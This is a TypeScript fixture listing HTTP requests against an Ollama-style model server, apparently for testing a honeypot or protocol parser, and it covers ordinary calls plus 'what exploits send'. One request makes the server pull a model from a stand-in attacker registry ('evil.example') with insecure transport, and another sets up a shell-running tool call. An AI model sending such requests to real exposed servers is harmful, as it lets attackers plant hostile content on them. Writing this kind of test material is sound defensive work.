import { httpRequest } from '../http-request.ts'

const json = (target: string, body: unknown, method = 'POST'): Buffer =>
  httpRequest(method, target, JSON.stringify(body), { 'Content-Type': 'application/json' })

/** A look around, conversations in both APIs, transfers, and what exploits send. */
export default [
  Buffer.concat([
    httpRequest('GET', '/'),
    httpRequest('GET', '/api/version'),
    httpRequest('GET', '/api/tags'),
    httpRequest('GET', '/api/ps'),
  ]),
  json('/api/show', { model: 'llama3.1:8b', verbose: true }),
  json('/api/generate', {
    model: 'gemma3:4b',
    prompt: 'hi',
    stream: false,
    keep_alive: '5m',
    context: [1, 2],
    images: ['aGk='],
    options: { num_predict: 2 },
  }),
  json('/api/chat', {
    model: 'qwen3:8b',
    messages: [
      { role: 'system', content: 's' },
      { role: 'user', content: 'ping' },
    ],
    think: false,
    format: { type: 'object', properties: { a: { type: 'integer' } } },
    options: { num_predict: 2 },
  }),
  json('/api/chat', {
    model: 'llama3.1:8b',
    stream: false,
    messages: [{ role: 'user', content: 'run ls' }],
    tools: [
      {
        type: 'function',
        function: { name: 'run', description: 'runs', parameters: { type: 'object', properties: { cmd: { type: 'string' } } } },
      },
    ],
  }),
  json('/api/embed', { model: 'nomic-embed-text', input: ['a', 'b'] }),
  json('/api/embeddings', { model: 'nomic-embed-text', prompt: 'a' }),
  json('/api/pull', { model: 'evil.example/x/y', insecure: true, stream: false }),
  json('/api/push', { model: 'llama3.1:8b', stream: false }),
  json('/api/create', { model: 'x', from: 'gemma3:4b', system: 's', parameters: { stop: ['a'] }, files: { 'a.gguf': 'sha256:00' } }),
  Buffer.concat([json('/api/copy', { source: 'gemma3:4b', destination: 'y' }), json('/api/delete', { model: 'y' }, 'DELETE')]),
  httpRequest('POST', `/api/blobs/sha256:${'0'.repeat(64)}`, 'GGUF'),
  json('/v1/chat/completions', {
    model: 'gemma3:4b',
    messages: [
      {
        role: 'user',
        content: [
          { type: 'text', text: 'hi' },
          { type: 'image_url', image_url: { url: 'data:image/png;base64,aGk=' } },
        ],
      },
    ],
    stream: true,
    max_tokens: 1,
    stream_options: { include_usage: true },
  }),
  json('/v1/completions', { model: 'gemma3:4b', prompt: ['a'], max_tokens: 1 }),
  json('/v1/embeddings', { model: 'nomic-embed-text', input: 'a', encoding_format: 'base64' }),
]
